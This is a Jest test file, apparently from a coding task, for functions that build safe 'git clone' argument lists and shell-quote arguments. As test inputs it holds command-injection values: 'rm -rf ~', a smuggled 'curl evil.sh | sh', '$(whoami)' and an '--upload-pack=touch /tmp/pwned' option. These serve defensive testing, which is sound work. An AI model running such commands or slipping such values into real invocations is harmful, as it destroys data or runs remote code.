import { gitCloneArgv, shellJoin } from './solution';

describe('gitCloneArgv', () => {
  it('builds git clone -- url dest with no options', () => {
    expect(gitCloneArgv('https://git.example.com/ops/infra.git', 'infra')).toEqual([
      'git', 'clone', '--', 'https://git.example.com/ops/infra.git', 'infra',
    ]);
  });

  it('puts --branch, then --depth, before the -- separator', () => {
    expect(gitCloneArgv('https://git.example.com/a.git', 'work/a', { depth: 1, branch: 'release/2.4' })).toEqual([
      'git', 'clone', '--branch', 'release/2.4', '--depth', '1', '--', 'https://git.example.com/a.git', 'work/a',
    ]);
    expect(gitCloneArgv('u', 'd', { branch: 'main' })).toEqual(['git', 'clone', '--branch', 'main', '--', 'u', 'd']);
    expect(gitCloneArgv('u', 'd', { depth: 50 })).toEqual(['git', 'clone', '--depth', '50', '--', 'u', 'd']);
  });

  it('keeps each value as one element, exactly as given (no splitting, quoting or escaping)', () => {
    const hostile = 'main; rm -rf ~ #';
    const url = "https://example.com/x.git' && curl evil.sh | sh '";
    const dest = 'my dir/$(whoami)';
    const argv = gitCloneArgv(url, dest, { branch: hostile });
    expect(argv).toEqual(['git', 'clone', '--branch', hostile, '--', url, dest]);
    expect(argv).toHaveLength(7);
  });

  it('keeps a url or dest that starts with - after the -- separator', () => {
    expect(gitCloneArgv('--upload-pack=touch /tmp/pwned', '-x')).toEqual([
      'git', 'clone', '--', '--upload-pack=touch /tmp/pwned', '-x',
    ]);
  });

  it('accepts a branch with a dash inside it, and passes depth 1 as the digits "1"', () => {
    expect(gitCloneArgv('u', 'd', { branch: 'fix-1', depth: 1 })).toEqual([
      'git', 'clone', '--branch', 'fix-1', '--depth', '1', '--', 'u', 'd',
    ]);
  });

  it('treats options given as undefined as not given, and returns a new array each time', () => {
    expect(gitCloneArgv('u', 'd', { branch: undefined, depth: undefined })).toEqual(['git', 'clone', '--', 'u', 'd']);
    const first = gitCloneArgv('u', 'd');
    first.push('extra');
    expect(gitCloneArgv('u', 'd')).toEqual(['git', 'clone', '--', 'u', 'd']);
  });

  it.each([
    ['an empty url', '', 'd', {}],
    ['an empty dest', 'u', '', {}],
    ['an empty branch', 'u', 'd', { branch: '' }],
    ['a branch starting with -', 'u', 'd', { branch: '-b' }],
    ['a branch that is an option', 'u', 'd', { branch: '--upload-pack=sh' }],
    ['depth 0', 'u', 'd', { depth: 0 }],
    ['a negative depth', 'u', 'd', { depth: -1 }],
    ['a fractional depth', 'u', 'd', { depth: 1.5 }],
    ['a NaN depth', 'u', 'd', { depth: Number.NaN }],
    ['an infinite depth', 'u', 'd', { depth: Number.POSITIVE_INFINITY }],
  ])('throws a RangeError for %s', (_label, url, dest, options) => {
    expect(() => gitCloneArgv(url as string, dest as string, options)).toThrow(RangeError);
  });
});

describe('shellJoin', () => {
  it('leaves arguments made only of safe characters as they are', () => {
    expect(shellJoin(['git', 'clone', '--depth', '1', '--', 'https://host:8443/a_b/c-d.git', 'user@host', 'a%b+c=d,e'])).toBe(
      'git clone --depth 1 -- https://host:8443/a_b/c-d.git user@host a%b+c=d,e',
    );
  });

  it('single-quotes arguments with spaces or shell characters', () => {
    expect(shellJoin(['echo', 'a b', '$(whoami)', 'x;y', 'a|b', '*', '~', 'x&y', 'a"b', '\\n', '#'])).toBe(
      "echo 'a b' '$(whoami)' 'x;y' 'a|b' '*' '~' 'x&y' 'a\"b' '\\n' '#'",
    );
  });

  it("writes each ' inside an argument as '\"'\"'", () => {
    expect(shellJoin(["it's"])).toBe(`'it'"'"'s'`);
    expect(shellJoin(["'"])).toBe(`''"'"''`);
    expect(shellJoin(["a'b'c d"])).toBe(`'a'"'"'b'"'"'c d'`);
  });

  it("quotes the empty argument as ''", () => {
    expect(shellJoin(['git', '', 'x'])).toBe("git '' x");
  });

  it('quotes non-ASCII letters and digits, tabs and newlines', () => {
    expect(shellJoin(['café', '٣', 'a\tb', 'a\nb'])).toBe("'café' '٣' 'a\tb' 'a\nb'");
  });

  it('joins with single spaces; no arguments give the empty string', () => {
    expect(shellJoin([])).toBe('');
    expect(shellJoin(['a'])).toBe('a');
    expect(shellJoin(['a', 'b', 'c'])).toBe('a b c');
  });

  it('round-trips what gitCloneArgv built into one loggable line', () => {
    const argv = gitCloneArgv('https://example.com/x.git', 'my dir', { branch: "it's" });
    expect(shellJoin(argv)).toBe(`git clone --branch 'it'"'"'s' -- https://example.com/x.git 'my dir'`);
  });
});
